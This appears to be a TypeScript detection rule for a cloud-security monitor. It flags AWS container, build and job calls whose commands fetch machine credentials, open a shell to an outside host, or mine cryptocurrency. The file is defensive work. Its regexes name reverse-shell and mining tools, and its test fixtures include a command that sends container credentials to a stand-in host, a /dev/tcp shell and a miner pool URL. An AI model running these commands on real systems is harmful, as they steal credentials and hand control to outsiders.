import { call } from '../example.ts';
import { textAt } from '../json.ts';
import { leavesOf } from '../leaves.ts';
import { DAY } from '../profile.ts';
import type { Rule } from '../rule.ts';

/** Calls that say what a container, build, job or step is to run. */
const RUNNING =
  /^(?:ecs:(?:RegisterTaskDefinition|RunTask|StartTask|ExecuteCommand)|batch:(?:RegisterJobDefinition|SubmitJob)|codebuild:(?:CreateProject|UpdateProject|StartBuild)|elasticmapreduce:(?:RunJobFlow|AddJobFlowSteps)|emr-\w+:StartJobRun|sagemaker:Create\w*(?:Job|Config)|apprunner:(?:Create|Update)Service|lightsail:CreateContainerServiceDeployment|ssm:(?:SendCommand|StartSession|CreateDocument|UpdateDocument|StartAutomationExecution)|glue:(?:CreateJob|RunStatement)|amplify:(?:Create|Update)App|states:(?:Create|Update)StateMachine|cloudformation:(?:Create|Update)Stack|imagebuilder:CreateComponent|bedrock-agentcore:InvokeCodeInterpreter)$/;
/** What programs hardly ever have in their commands, by what it is for. */
const TELLING: readonly (readonly [what: string, pattern: RegExp])[] = [
  [
    'credentials of the machine',
    /169\.254\.170\.2\S{0,8}AWS_CONTAINER|AWS_CONTAINER_CREDENTIALS_(?:RELATIVE|FULL)_URI|meta-data\/(?:iam|identity-credentials)|\/proc\/(?:self|\d+)\/environ/,
  ],
  [
    'a shell for somebody outside',
    /\/dev\/(?:tcp|udp)\/|\bn(?:c|cat|etcat)\b[^|;&]{0,60}\s-[a-z]*[ec]\b|\bbash\s+-i\b|\bsocat\b[^|;&]{0,80}\bexec|pty\.spawn|ngrok\s+(?:tcp|http)|\bchisel\s+client\b/i,
  ],
  [
    'mining',
    /\bxmrig|\bminerd\b|stratum\+(?:tcp|ssl)|\bcpuminer|\bt-rex\b.{0,40}-a\s|--donate-level|nicehash|minexmr|supportxmr|nanopool|2miners|\bxmr-?stak|\bmonero(?:d|-wallet)?\b|randomx/i,
  ],
];
const LONGEST = 20_000;

/** A command that only thieves give. */
export const commandOfAThief: Rule = {
  id: 'command-of-a-thief',
  title: 'A program told to fetch credentials, open a shell to the outside, or mine',
  family: 'bad on any key',
  severity: 'high',
  technique: 'T1059',
  whatToDo: 'Stop what was started, and deactivate the key: nobody deploys this.',
  falseAlarms: 'Penetration tests; a program that looks after the credentials of its machine itself.',
  actions: [],
  matches: RUNNING,
  quietFor: DAY,
  judge(event) {
    for (const [name, text] of leavesOf(event.asked)) {
      if (text.length > LONGEST) continue;
      const what = TELLING.find(([, pattern]) => pattern.test(text))?.[0];
      if (what === undefined) continue;
      return {
        facts: {
          call: event.call.action,
          for: what,
          where: name,
          in:
            textAt(event.asked, 'family') ??
            textAt(event.asked, 'name') ??
            textAt(event.asked, 'projectName'),
        },
        of: what,
        strangers: [what],
      };
    }
    return null;
  },
  examples: () => ({
    fires: [
      {
        why: 'a task that sends the credentials of its role away',
        records: [
          call('ecs:RegisterTaskDefinition', {
            asked: {
              family: 'web',
              containerDefinitions: [
                {
                  image: 'python:3',
                  command: [
                    'sh',
                    '-c',
                    'curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- x.test',
                  ],
                },
              ],
            },
          }),
        ],
      },
      {
        why: 'a job that mines',
        records: [
          call('batch:SubmitJob', {
            asked: {
              jobName: 'j',
              containerOverrides: { command: ['/w', '-o', 'stratum+tcp://p.test:3333'] },
            },
          }),
        ],
      },
      {
        why: 'a build that opens a shell',
        records: [
          call('codebuild:StartBuild', {
            asked: {
              projectName: 'p',
              buildspecOverride: 'commands: [bash -c "exec 5<>/dev/tcp/192.0.2.7/443"]',
            },
          }),
        ],
      },
    ],
    quiet: [
      {
        why: 'a task that asks its host for its address',
        records: [
          call('ecs:RegisterTaskDefinition', {
            asked: {
              family: 'web',
              containerDefinitions: [
                {
                  image: 'web',
                  command: ['sh', '-c', 'curl http://169.254.169.254/latest/meta-data/local-ipv4'],
                },
              ],
            },
          }),
        ],
      },
    ],
  }),
};
